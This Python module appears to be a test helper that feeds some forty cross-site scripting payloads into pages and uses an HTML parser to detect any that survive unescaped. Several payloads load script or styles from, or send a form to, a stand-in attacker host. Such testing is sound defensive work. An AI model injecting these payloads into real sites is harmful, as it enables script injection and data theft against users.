"""Forty ways to have a browser run something, and a judge of pages that finds each of them where it stands unescaped."""

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

ALERT = "alert(4711)"
PAYLOADS = (
    "<script>alert(4711)</script>",
    "</textarea><script>alert(4711)</script>",
    "</title><script>alert(4711)</script>",
    "</option></select><script>alert(4711)</script>",
    "<ScRiPt/x>alert(4711)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(4711)></script>",
    "<img src=x onerror=alert(4711)>",
    "<img/src='x'/onerror=alert(4711)//",
    "<svg onload=alert(4711)>",
    "<svg><script>alert(4711)</script></svg>",
    "<svg><a xlink:href='javascript:alert(4711)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(4711) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(4711)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(4711)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(4711)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(4711)'>x</math>",
    "<body onload=alert(4711)>",
    "<details open ontoggle=alert(4711)>",
    "<video><source onerror=alert(4711)></video>",
    "<audio src=x onerror=alert(4711)>",
    "<input autofocus onfocus=alert(4711)>",
    "<marquee onstart=alert(4711)>x</marquee>",
    "<iframe src=javascript:alert(4711)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(4711)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(4711)></object>",
    "<embed src=javascript:alert(4711)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(4711)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button formaction=javascript:alert(4711)>x</button></form>",
    "<a href=javascript:alert(4711)>x</a>",
    "<a href=' &#106;avascript:alert(4711)'>x</a>",
    "<a href='java\tscript:alert(4711)'>x</a>",
    "<div hx-get=/help hx-on:click=alert(4711) hx-trigger=load>x</div>",
    "<p style=background:url(//evil.example)>x</p>",
    '" onmouseover="alert(4711)" x="',
    "' onfocus='alert(4711)' autofocus x='",
    '"><svg/onload=alert(4711)>',
    "javascript:alert(4711)",
    '[x](javascript:alert(4711)) ![x](x onerror=alert(4711)) <https://x/" onclick=alert(4711)>',
)
TOGETHER = tuple(" ".join(PAYLOADS[start::6]) for start in range(6))
"""The same, seven at a time, for walks over many pages: what escapes one character too few lets one of them out."""
_NOT_OURS = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "applet",
    "frame",
    "frameset",
    "math",
    "animate",
    "set",
    "foreignObject",
    "marquee",
    "video",
    "audio",
    "source",
    "img",
    "template",
    "portal",
}
_ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcdoc",
    "background",
    "cite",
    "ping",
    "manifest",
}
_OUR_HX = {"hx-get", "hx-trigger", "hx-swap", "hx-target"}


def tree(text: str) -> Element:
    """The page as a browser reads it, however broken."""
    parsed: Element = html5lib.HTMLParser(namespaceHTMLElements=False).parse(text)
    return parsed


def executable(text: str, *, links: bool = False) -> Iterator[str]:
    """Everything on a page that runs, loads or sends something and that none of our templates holds.

    With `links`, plain links to other sites are fine, as a guide may hold them.
    """
    for element in tree(text).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.split("}")[-1]
        names = {str(name).split("}")[-1].lower(): str(value) for name, value in element.attrib.items()}
        if _foreign(tag, names, element.text or ""):
            yield f"<{tag} {names}>"
        for name, value in names.items():
            if name.startswith(("on", "style", "hx-on", "data-hx")):
                yield f"<{tag} {name}={value}>"
            if name.startswith("hx-") and (name not in _OUR_HX or ALERT in value):
                yield f"<{tag} {name}={value}>"
            elsewhere = links and (tag, name) == ("a", "href") and value.startswith(("https://", "http://"))
            if name in _ADDRESSES and not elsewhere and not _leads_home(value):
                yield f"<{tag} {name}={value}>"


def _foreign(tag: str, names: dict[str, str], text: str) -> bool:
    """An element that no template of ours has: of another kind, or with a source that is not our own."""
    if tag == "script":
        return bool(text.strip()) or not names.get("src", "").startswith("/static/")
    if tag == "link":
        return not names.get("href", "").startswith("/static/")
    if tag == "meta":
        return "http-equiv" in names and names.get("content") != "4"
    return tag in _NOT_OURS


def _leads_home(address: str) -> bool:
    """A path on this site or a mail address: never another scheme or host, whatever hides in it."""
    seen = "".join(sign for sign in address if sign > " ").replace("\\", "/")
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", seen, re.IGNORECASE)
    return not seen.startswith("//") and (scheme is None or scheme[0] == "mailto:")
